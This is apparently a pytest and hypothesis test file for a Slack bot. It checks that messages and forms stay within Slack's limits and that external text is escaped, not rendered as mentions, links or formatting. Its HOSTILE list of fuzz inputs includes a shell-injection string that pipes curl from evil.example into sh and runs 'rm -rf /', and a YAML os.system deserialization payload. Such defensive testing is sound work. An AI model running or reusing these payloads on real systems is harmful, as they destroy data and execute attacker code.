"""Every view stays within Slack's limits and shows external text as text."""

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.domain.kinds import Kind
from bot.domain.operations import Status
from bot.views import escape
from tests.bot.view_examples import complaints, form_complaints, forms, messages, suggestions

EVERY = [*((status, Kind.GPU_UP) for status in Status), *((Status.AWAITING, kind) for kind in Kind)]
HOSTILE = [
    "<!channel> <!here> <@U0LEAD> <#C0GPUOPS> <!subteam^S1|x>",
    "*bold* _italic_ ~struck~ `code` ```block``` > quote",
    "<https://evil.example|harmless> &lt;!channel&gt; :fire:",
    "\u202egnirts\u202c \u2066x\u2069 \u200f\u061c \x00\x1b[31m",
    "x" * 10_000,
    "<" * 10_000,
    "`" * 3000,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 500,
    "key: [unclosed\n- !!python/object/apply:os.system ['id']\n",
    "$(reboot); `rm -rf /` && curl evil.example | sh; '\"",
    "a\nb\r\nc\u2028d",
    "\ud800",
]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=st.text(min_size=1, max_size=600),
    count=st.integers(1, 30),
    status=st.sampled_from(Status),
    kind=st.sampled_from(Kind),
)
def test_every_message_keeps_slacks_limits(text: str, count: int, status: Status, kind: Kind) -> None:
    """Every card is tested, with every status and kind, and with any text in every field."""
    for view in messages(text, count, [(status, kind)]):
        assert complaints(view) == []


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(min_size=1, max_size=600), count=st.integers(1, 30))
def test_every_form_keeps_slacks_limits(text: str, count: int) -> None:
    """Modals and Home are tested with any text in every field."""
    for view in forms(text, count):
        assert form_complaints(view) == []


MANY = [*((text, 1) for text in HOSTILE), ("<" * 10_000, 300)]
"""The text that is longest after escaping is also tried with hundreds of endpoints."""


@pytest.mark.parametrize(
    ("text", "count"), MANY, ids=lambda value: ascii(value[:12]) if isinstance(value, str) else None
)
def test_hostile_text_in_every_field_fits(text: str, count: int) -> None:
    """Ten thousand characters, hundreds of endpoints and twenty phases are truncated to a valid message."""
    for view in messages(text, count, EVERY):
        assert complaints(view) == []
    for form in forms(text, count):
        assert form_complaints(form) == []


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_hostile_text_in_every_field_is_text(text: str) -> None:
    """External text does not become a mention, link or reordered text; the bot itself writes only users, dates and its own links."""
    views = [*(view.blocks for view in messages(text, 3, EVERY)), *(form["blocks"] for form in forms(text, 3))]
    for blocks in views:
        for markup in markup_in(blocks):
            assert not re.search(r"<(?!@U\d>|!date\^|https://example\.com/|https://slack\.com/archives/|/)", markup), (
                markup
            )
            assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\x00\x1b]", markup)


@pytest.mark.parametrize("text", [text for text in HOSTILE if len(text) < 200], ids=lambda text: ascii(text[:12]))
def test_formatting_characters_of_others_do_not_format(text: str) -> None:
    """Typed stars are shown as stars."""
    assert not re.search(r"(?<!\w)[*_~](?=\S)|`|^&gt;|:[a-z]+:", escape(text), re.MULTILINE)


def test_suggestions_keep_slacks_limits() -> None:
    """An id that does not fit into an option is not offered; a long label is truncated."""
    assert suggestions("x" * 200) == []
    (offered,) = suggestions("organisation/" + "m" * 100)
    assert len(offered["text"]["text"]) <= 75
    assert offered["value"] == "organisation/" + "m" * 100


def markup_in(node: object) -> list[str]:
    """Return the texts that Slack reads as mrkdwn."""
    if isinstance(node, dict):
        markup = [node["text"]] if node.get("type") == "mrkdwn" else []
        return markup + [text for value in node.values() for text in markup_in(value)]
    return [text for value in node for text in markup_in(value)] if isinstance(node, list) else []


def test_metadata_of_the_forms_is_within_slacks_limit() -> None:
    """Forms contain typed text; their fields are limited so that it fits."""
    for form in forms("ä" * 5000, 25):
        assert len(form.get("private_metadata", "")) <= 3000
        json.dumps(form)
